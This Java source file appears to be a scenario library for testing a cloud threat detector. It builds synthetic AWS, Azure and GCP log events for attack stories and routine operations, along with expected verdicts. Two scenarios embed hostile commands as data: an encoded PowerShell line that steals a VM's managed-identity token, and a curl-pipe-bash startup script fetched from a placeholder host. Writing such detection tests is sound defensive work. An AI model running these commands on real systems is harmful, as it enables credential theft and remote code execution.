package dev.cadet.detectors.scenarios;

import dev.cadet.detectors.DetectionConfig;
import dev.cadet.detectors.MaintenanceWindow;
import dev.cadet.detectors.testkit.E;
import dev.cadet.model.CloudEvent;
import dev.cadet.model.Decision;
import dev.cadet.model.EventKind;
import dev.cadet.model.Mfa;
import dev.cadet.model.Outcome;
import dev.cadet.model.PrincipalType;
import dev.cadet.model.Provider;

import java.nio.charset.StandardCharsets;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Set;

import static dev.cadet.detectors.testkit.E.DAY;
import static dev.cadet.detectors.testkit.E.HOUR;
import static dev.cadet.detectors.testkit.E.MINUTE;
import static dev.cadet.detectors.testkit.E.role;
import static dev.cadet.detectors.testkit.E.user;

/**
 * Attack stories and routine operations across AWS, Azure and GCP, built by code as the normalized
 * events their logs become. Each starts with a quiet first day that serves as the baseline (the
 * default learning period is 24 hours), then plays its story on the following days. Test day 1 is
 * Wednesday 2024-05-01.
 */
public final class ScenarioLibrary {

    static final String SUB = "/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333";
    static final String OFFICE = "198.51.100.20";
    static final String CI_NET = "203.0.113.0/28";
    static final String CI_IP = "203.0.113.10";
    static final String ATTACKER = "185.220.101.45";
    static final String WEB = "i-0a1b2c3d4e5f60001";
    static final String DB = "i-0a1b2c3d4e5f60002";

    private ScenarioLibrary() {
    }

    public static List<Scenario> all() {
        return List.of(bruteForceThenCommands(), newKeyAndPolicyThenCommandsFromNewAddress(),
                azureRunCommandByNeverSeenUserFromNewCountry(), encodedPowerShellThroughCustomScript(),
                gcpStartupScriptSwap(), instanceRoleCommandsOtherInstances(), refusedThenExecuted(),
                impossibleTravelThenRunCommand(), dailyPatchAutomationFromKnownRanges(),
                adminMaintenanceInApprovedWindow(), ciSpikeOfRunCommands(), spikeByAnUnapprovedPrincipal());
    }

    /** 00:00 of test day {@code d} (day 0 is the baseline day) plus hours and minutes. */
    static long at(int d, int hour, int minute) {
        return DAY + d * 24 * HOUR + hour * HOUR + minute * MINUTE;
    }

    private static DetectionConfig.Builder config() {
        return DetectionConfig.builder()
                .approvedPrincipals(List.of(role("AWSServiceRoleForAmazonSSM", "*"), user("ci-deploy"),
                        "patch-automation@contoso.com"))
                .approvedSources(List.of(CI_NET, "10.0.0.0/8", "ssm.amazonaws.com"));
    }

    /** A quiet baseline day: the office admin reads, CI deploys, a developer signs in with MFA. */
    private static List<CloudEvent> baselineDay() {
        List<CloudEvent> out = new ArrayList<>();
        // The learning period starts at the first event: a monitoring call at midnight anchors it to day 0.
        out.add(E.other(role("monitoring", "monitoring-fn")).host("lambda.amazonaws.com").at(at(0, 0, 0)).build());
        for (int h = 9; h < 17; h++) {
            out.add(E.other(user("alice")).ip(OFFICE).country("DE").at(at(0, h, 5)).build());
            out.add(E.other(user("dave")).ip(OFFICE).country("DE").at(at(0, h, 20)).build());
        }
        out.add(E.login(user("dave")).mfa(Mfa.USED).ip(OFFICE).country("DE").at(at(0, 9, 0)).build());
        out.add(E.command(user("ci-deploy")).ip(CI_IP).targets(WEB).at(at(0, 10, 0)).build());
        out.add(E.command(user("alice")).ip(OFFICE).targets(DB).document("AWS-RunShellScript").at(at(0, 11, 0)).build());
        return out;
    }

    private static List<CloudEvent> with(List<CloudEvent> base, E.Builder... story) {
        List<CloudEvent> out = new ArrayList<>(base);
        for (E.Builder b : story) {
            out.add(b.build());
        }
        return out;
    }

    static Scenario bruteForceThenCommands() {
        List<E.Builder> story = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            story.add(E.loginFailed(user("dave")).ip(ATTACKER).at(at(1, 2, i)));
        }
        story.add(E.login(user("dave")).mfa(Mfa.NOT_USED).ip(ATTACKER).at(at(1, 2, 8)));
        story.add(E.command(user("dave")).ip(ATTACKER).targets(WEB, DB).at(at(1, 2, 15)));
        return new Scenario("aws-brute-force-then-commands",
                "Six failed console logins for dave from an unknown address, a success without MFA, then commands",
                with(baselineDay(), story.toArray(E.Builder[]::new)), config().build(), user("dave"),
                Decision.ESCALATE_TIER2, Set.of("failed-then-success", "login-anomaly", "unknown-source"),
                Set.of("account-compromise", "failed-attempts-then-execution"));
    }

    static Scenario newKeyAndPolicyThenCommandsFromNewAddress() {
        String key = "AKIA2SCENARIONEWKEY01";
        return new Scenario("aws-new-key-and-policy-then-commands-from-new-address",
                "alice creates an access key and attaches AdministratorAccess, then the new key sends commands"
                        + " from an address alice never used",
                with(baselineDay(),
                        E.createKey(user("alice"), user("alice"), key).ip(OFFICE).at(at(1, 14, 0)),
                        E.attachPolicy(user("alice"), user("alice"), "arn:aws:iam::aws:policy/AdministratorAccess")
                                .ip(OFFICE).at(at(1, 14, 2)),
                        E.command(user("alice")).key(key).ip(ATTACKER).targets(WEB).at(at(1, 18, 30))),
                config().build(), user("alice"), Decision.ESCALATE_TIER2,
                Set.of("iam-then-command", "unknown-source"), Set.of("account-compromise"));
    }

    private static E.Builder azureRunCommand(String caller, String vm, String correlation, String phase, long time) {
        return E.event(EventKind.COMMAND_EXECUTION, "Microsoft.Compute/virtualMachines/runCommand/action", caller)
                .provider(Provider.AZURE).account("0b1f6471-1bf0-4dda-aec3-111122223333").region("westeurope")
                .targets(SUB + "/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/" + vm)
                .correlation(correlation).id(correlation + "-" + phase).document("RunPowerShellScript")
                .outcome("Started".equals(phase) ? Outcome.UNKNOWN : Outcome.SUCCESS).at(time);
    }

    static Scenario azureRunCommandByNeverSeenUserFromNewCountry() {
        List<CloudEvent> events = new ArrayList<>(baselineDay());
        events.add(azureRunCommand("ops@contoso.com", "web-01", "corr-base", "Succeeded", at(0, 15, 0))
                .ip("192.0.2.10").country("DE").build());
        long t = at(1, 3, 12);
        for (String phase : new String[] {"Started", "Accepted", "Succeeded"}) {
            events.add(azureRunCommand("mallory@contoso.com", "web-01", "corr-attack", phase, t)
                    .ip("203.0.113.200").country("KP").build());
            t += 20_000;
        }
        return new Scenario("azure-run-command-by-never-seen-user-from-new-country",
                "mallory@contoso.com, absent from the baseline, runs a run command on web-01 from North Korea;"
                        + " Azure writes Started, Accepted and Succeeded records for it",
                events, config().build(), "mallory@contoso.com", Decision.ESCALATE_TIER2,
                Set.of("command-execution", "rare-command", "unknown-source"), Set.of("rare-and-unexplained"));
    }

    static Scenario encodedPowerShellThroughCustomScript() {
        String payload = "$t = Invoke-RestMethod -Headers @{Metadata='true'} -Uri "
                + "'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'";
        String b64 = Base64.getEncoder().encodeToString(payload.getBytes(StandardCharsets.UTF_16LE));
        return new Scenario("azure-encoded-powershell-through-custom-script",
                "ops@contoso.com installs a Custom Script extension whose commandToExecute is an encoded PowerShell"
                        + " command that steals the VM's managed identity token",
                with(baselineDay(),
                        azureRunCommand("ops@contoso.com", "web-01", "corr-base", "Succeeded", at(0, 15, 0))
                                .ip("192.0.2.10"),
                        E.event(EventKind.COMMAND_EXECUTION, "Microsoft.Compute/virtualMachines/extensions/write",
                                "ops@contoso.com").provider(Provider.AZURE).ip("192.0.2.10")
                                .targets(SUB + "/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/web-01")
                                .document("CustomScriptExtension")
                                .lines("powershell -ExecutionPolicy Unrestricted -EncodedCommand " + b64)
                                .correlation("corr-cse").at(at(1, 10, 0))),
                config().build(), "ops@contoso.com", Decision.ESCALATE_TIER2,
                Set.of("suspicious-command-content"), Set.of("known-threat-technique"));
    }

    static Scenario gcpStartupScriptSwap() {
        String vm = "projects/shop-prod/zones/europe-west1-b/instances/web-1";
        String who = "eve@example.com";
        return new Scenario("gcp-startup-script-swap",
                "eve stops a GCP instance, replaces its startup script with a download-and-run line, and starts it",
                with(baselineDay(),
                        E.other(who).provider(Provider.GCP).ip("192.0.2.77").at(at(0, 12, 0)),
                        E.event(EventKind.OTHER, "compute.googleapis.com:v1.compute.instances.stop", who)
                                .provider(Provider.GCP).ip("192.0.2.77").targets(vm).at(at(1, 22, 0)),
                        E.event(EventKind.COMMAND_EXECUTION, "compute.googleapis.com:v1.compute.instances.setMetadata", who)
                                .provider(Provider.GCP).ip("192.0.2.77").targets(vm).document("startup-script")
                                .lines("#!/bin/bash", "curl -s http://198.51.100.99/s.sh | bash").at(at(1, 22, 3)),
                        E.event(EventKind.OTHER, "compute.googleapis.com:v1.compute.instances.start", who)
                                .provider(Provider.GCP).ip("192.0.2.77").targets(vm).at(at(1, 22, 5))),
                config().build(), who, Decision.ESCALATE_TIER2,
                Set.of("user-data-swap", "suspicious-command-content"), Set.of("known-attack-path"));
    }

    static Scenario instanceRoleCommandsOtherInstances() {
        String self = role("web-instance-role", WEB);
        return new Scenario("aws-instance-role-sends-commands-to-other-instances",
                "The web server's instance role, used from the web server, sends commands to the database server",
                with(baselineDay(),
                        E.other(self).type(PrincipalType.INSTANCE).ip("10.0.1.10").at(at(0, 8, 0)),
                        E.command(self).type(PrincipalType.INSTANCE).ip("10.0.1.10").targets(DB).at(at(1, 4, 0))),
                config().build(), self, Decision.ESCALATE_TIER2, Set.of("command-from-instance"),
                Set.of("known-attack-path"));
    }

    static Scenario refusedThenExecuted() {
        List<E.Builder> story = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            story.add(E.denied(user("bob")).ip(OFFICE).error(i % 2 == 0 ? "InvalidInstanceId" : "AccessDenied")
                    .targets("i-0000000000000000" + i).at(at(1, 13, i)));
        }
        story.add(E.command(user("bob")).ip(OFFICE).targets(WEB).at(at(1, 13, 30)));
        return new Scenario("aws-refused-command-burst-then-execution",
                "bob probes machine ids with refused SendCommands, then one goes through",
                with(baselineDay(), story.toArray(E.Builder[]::new)), config().build(), user("bob"),
                Decision.ESCALATE_TIER2, Set.of("denied-command-burst", "failed-then-success"),
                Set.of("refused-then-executed"));
    }

    static Scenario impossibleTravelThenRunCommand() {
        String who = "kim@contoso.com";
        return new Scenario("entra-and-azure-impossible-travel",
                "kim signs in from Germany, and 40 minutes later her account runs a run command from Brazil",
                with(baselineDay(),
                        E.login(who).provider(Provider.ENTRA).action("Microsoft.Entra:SignIn").mfa(Mfa.USED)
                                .ip("192.0.2.30").country("DE").at(at(0, 9, 0)),
                        E.login(who).provider(Provider.ENTRA).action("Microsoft.Entra:SignIn").mfa(Mfa.USED)
                                .ip("192.0.2.30").country("DE").at(at(1, 9, 0)),
                        azureRunCommand(who, "web-02", "corr-k", "Succeeded", at(1, 9, 40)).ip("203.0.113.140")
                                .country("BR")),
                config().build(), who, Decision.ESCALATE_TIER2, Set.of("geo-anomaly"), Set.of("account-compromise"));
    }

    static Scenario dailyPatchAutomationFromKnownRanges() {
        List<CloudEvent> events = new ArrayList<>();
        String patcher = role("AWSServiceRoleForAmazonSSM", "StateManagerService");
        for (int d = 0; d < 6; d++) {
            events.add(E.command(patcher).host("ssm.amazonaws.com").document("AWS-RunPatchBaseline")
                    .targets(WEB, DB).at(at(d, 3, 2)).build());
            events.add(E.command("patch-automation@contoso.com").provider(Provider.AZURE).ip("10.20.0.4")
                    .action("Microsoft.Compute/virtualMachines/runCommand/action").document("PatchLinux")
                    .targets(SUB + "/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/web-01")
                    .correlation("patch-" + d).at(at(d, 3, 30)).build());
        }
        return new Scenario("daily-patch-automation-from-known-ranges",
                "SSM State Manager and an Azure automation account patch the fleet every night from approved sources",
                events, config().build(), patcher, Decision.BENIGN, Set.of("command-execution"), Set.of());
    }

    static Scenario adminMaintenanceInApprovedWindow() {
        // Day 4 of the test week is Sunday 2024-05-05.
        MaintenanceWindow sundays = MaintenanceWindow.weekly("sunday maintenance", List.of(user("alice")),
                Set.of(DayOfWeek.SUNDAY), LocalTime.of(1, 0), Duration.ofHours(4), ZoneId.of("UTC"));
        return new Scenario("admin-maintenance-in-approved-window",
                "alice, an admin and not automation, runs a maintenance document for the first time during the"
                        + " approved Sunday window from the office",
                with(baselineDay(),
                        E.command(user("alice")).ip(OFFICE).document("Company-RotateCertificates").targets(WEB, DB)
                                .at(at(4, 2, 0))),
                config().approvedSources(List.of(CI_NET, OFFICE, "ssm.amazonaws.com"))
                        .maintenanceWindows(List.of(sundays)).build(),
                user("alice"), Decision.TIER1_REVIEW, Set.of("rare-command"), Set.of("in-maintenance-window"));
    }

    private static List<CloudEvent> ciHistoryAndSpike(String who) {
        List<CloudEvent> events = new ArrayList<>();
        for (int h = 8; h < 18; h++) {
            events.add(E.command(who).ip(CI_IP).targets(WEB).at(at(0, h, 10)).build());
            events.add(E.command(who).ip(CI_IP).targets(WEB).at(at(0, h, 40)).build());
        }
        for (int i = 0; i < 60; i++) {
            events.add(E.command(who).ip(CI_IP).targets(WEB).at(at(1, 14, 0) + i * 50_000L).build());
        }
        return events;
    }

    static Scenario ciSpikeOfRunCommands() {
        return new Scenario("ci-principal-spike-of-run-commands",
                "The approved CI user, which sends two commands an hour, sends sixty in one hour",
                ciHistoryAndSpike(user("ci-deploy")), config().build(), user("ci-deploy"), Decision.TIER1_REVIEW,
                Set.of("command-spike"), Set.of("unusual-activity"));
    }

    static Scenario spikeByAnUnapprovedPrincipal() {
        return new Scenario("unapproved-principal-spike-of-run-commands",
                "The same spike by a build user nobody approved as automation",
                ciHistoryAndSpike(user("build-bot")), config().build(), user("build-bot"), Decision.ESCALATE_TIER2,
                Set.of("command-spike"), Set.of("not-normal-operations"));
    }
}
